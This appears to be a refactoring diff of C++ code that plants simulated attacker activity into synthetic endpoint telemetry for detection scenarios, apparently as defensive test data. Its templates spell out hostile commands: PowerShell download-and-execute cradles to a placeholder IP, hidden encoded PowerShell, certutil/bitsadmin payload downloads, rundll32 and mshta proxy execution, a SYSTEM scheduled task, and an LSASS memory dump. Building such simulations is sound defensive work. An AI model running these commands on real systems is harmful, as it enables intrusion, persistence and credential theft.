@@ -53,8 +53,9 @@ void PlantEncodedPowerShell(ScenarioContext& c) {
       "IEX (iwr -UseBasicParsing 'http://{}/{}').Content",
       "[Net.ServicePointManager]::SecurityProtocol='Tls12';IEX(New-Object Net.WebClient).DownloadString('https://{}/{}')"};
   static const char* const kScripts[] = {"a.ps1", "stage2.ps1", "news.txt", "update.ps1", "js/jquery.min.js"};
-  std::string script = fmt::format(fmt::runtime(kCradles[c.rng.Below(std::size(kCradles))]), ip,
-                                   kScripts[c.rng.Below(std::size(kScripts))]);
+  const char* script_name = kScripts[c.rng.Below(std::size(kScripts))];
+  const char* cradle = kCradles[c.rng.Below(std::size(kCradles))];
+  std::string script = fmt::format(fmt::runtime(cradle), ip, script_name);
   static const char* const kFlags[] = {"-nop -w hidden -enc", "-NoProfile -WindowStyle Hidden -EncodedCommand",
                                        "-noP -sta -w 1 -enc", "-ExecutionPolicy Bypass -e"};
   std::string cmd = fmt::format("powershell.exe {} {}", kFlags[c.rng.Below(std::size(kFlags))], EncodePowerShell(script));
@@ -96,8 +97,9 @@ void PlantCertutilDownload(ScenarioContext& c) {
   c.dev.Network(tool, tool.created + Seconds(c.rng, 1, 2), "ConnectionSuccess", ip, 80, "", "Tcp", c.tag);
   Proc writer = tool;
   if (!use_certutil) writer = c.dev.Resident(host, "netsvcs -p", DayStart(t));  // BITS writes the file
-  Row& f = c.dev.File(writer, tool.created + Seconds(c.rng, 2, 5), "FileCreated", dir, payload,
-                      c.rng.Between(80000, 900000), c.tag);
+  int64_t size = c.rng.Between(80000, 900000);
+  int64_t written = tool.created + Seconds(c.rng, 2, 5);
+  Row& f = c.dev.File(writer, written, "FileCreated", dir, payload, size, c.tag);
   f.Set("FileOriginUrl", url).Set("FileOriginIP", ip);
   c.dev.Spawn(cmd, dir + "\\" + payload, dir + "\\" + payload, tool.created + Seconds(c.rng, 20, 90), c.tag);
   r.name = fmt::format("{} downloads {} to {} on {}", use_certutil ? "certutil" : "bitsadmin", payload, dir, host.name);
@@ -120,9 +122,10 @@ void PlantLolbinProxy(ScenarioContext& c) {
   if (variant == 0) {
     std::string dll = fmt::format(R"(C:\Users\{}\AppData\Local\Temp\{}.dll)", desk.account.name, c.rng.Hex(6));
     Proc shell = c.dev.Spawn(desk, R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)", "\"powershell.exe\"", t, c.tag);
-    p = c.dev.Spawn(shell, R"(C:\Windows\System32\rundll32.exe)",
-                    fmt::format("rundll32.exe {},{}", dll, c.rng.Chance(0.5) ? "DllRegisterServer" : "StartW"),
-                    t + Seconds(c.rng, 10, 120), c.tag);
+    int64_t started = t + Seconds(c.rng, 10, 120);
+    const char* entry = c.rng.Chance(0.5) ? "DllRegisterServer" : "StartW";
+    p = c.dev.Spawn(shell, R"(C:\Windows\System32\rundll32.exe)", fmt::format("rundll32.exe {},{}", dll, entry),
+                    started, c.tag);
     c.AddFile(std::string(BaseName(dll)));
     r.techniques = {"T1218.011"};
   } else if (variant == 1) {
@@ -131,9 +134,10 @@ void PlantLolbinProxy(ScenarioContext& c) {
     r.techniques = {"T1218.010"};
   } else {
     Proc outlook = c.dev.Spawn(desk, R"(C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE)", "\"OUTLOOK.EXE\"", t, c.tag);
+    int64_t started = t + Seconds(c.rng, 5, 60);
+    const char* page = c.rng.Chance(0.5) ? "invoice" : "doc";
     p = c.dev.Spawn(outlook, R"(C:\Windows\System32\mshta.exe)",
-                    fmt::format("\"C:\\Windows\\System32\\mshta.exe\" http://{}/{}.hta", ip, c.rng.Chance(0.5) ? "invoice" : "doc"),
-                    t + Seconds(c.rng, 5, 60), c.tag);
+                    fmt::format("\"C:\\Windows\\System32\\mshta.exe\" http://{}/{}.hta", ip, page), started, c.tag);
     r.techniques = {"T1218.005"};
   }
   c.dev.Network(p, p.created + Seconds(c.rng, 1, 3), "ConnectionSuccess", ip, variant == 0 ? 443 : 80, "", "Tcp", c.tag);
@@ -182,10 +186,11 @@ void PlantScheduledTask(ScenarioContext& c) {
                                          : R"(C:\Users\Public\Libraries\svcupdate.exe)";
   static const char* const kSchedules[] = {"/sc onlogon", "/sc minute /mo 30", "/sc daily /st 09:00", "/sc onstart"};
   Proc cmd = c.dev.SpawnAs(desk, R"(C:\Windows\System32\cmd.exe)", R"("C:\Windows\system32\cmd.exe")", desk.account, "High", t, c.tag);
+  int64_t created = t + Seconds(c.rng, 5, 60);
+  const char* schedule = kSchedules[c.rng.Below(std::size(kSchedules))];
   Proc st = c.dev.Spawn(cmd, R"(C:\Windows\System32\schtasks.exe)",
-                        fmt::format(R"(schtasks /create /tn "{}" /tr "{}" {} /ru SYSTEM /f)", task, action,
-                                    kSchedules[c.rng.Below(std::size(kSchedules))]),
-                        t + Seconds(c.rng, 5, 60), c.tag);
+                        fmt::format(R"(schtasks /create /tn "{}" /tr "{}" {} /ru SYSTEM /f)", task, action, schedule),
+                        created, c.tag);
   Proc sched = c.dev.Resident(host, "netsvcs -p", DayStart(t));
   c.dev.Registry(sched, st.created + kTicksPerSecond / 2, "RegistryKeyCreated",
                  R"(HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Schedule\TaskCache\Tree)" + task,
@@ -251,8 +256,9 @@ void PlantLsassDump(ScenarioContext& c) {
     r.techniques = {"T1003.001", "T1218.011"};
     c.AddFile("comsvcs.dll");
   }
-  c.dev.File(tool, tool.created + Seconds(c.rng, 1, 4), "FileCreated", R"(C:\Windows\Temp)", dump,
-             c.rng.Between(40'000'000, 90'000'000), c.tag);
+  int64_t size = c.rng.Between(40'000'000, 90'000'000);
+  int64_t written = tool.created + Seconds(c.rng, 1, 4);
+  c.dev.File(tool, written, "FileCreated", R"(C:\Windows\Temp)", dump, size, c.tag);
   r.name = "LSASS memory dumped with " + tool.file_name + " on " + host.name;
   r.description = "Credential theft: the memory of lsass.exe is written to a dump file.";
   c.AddHost(host.name);
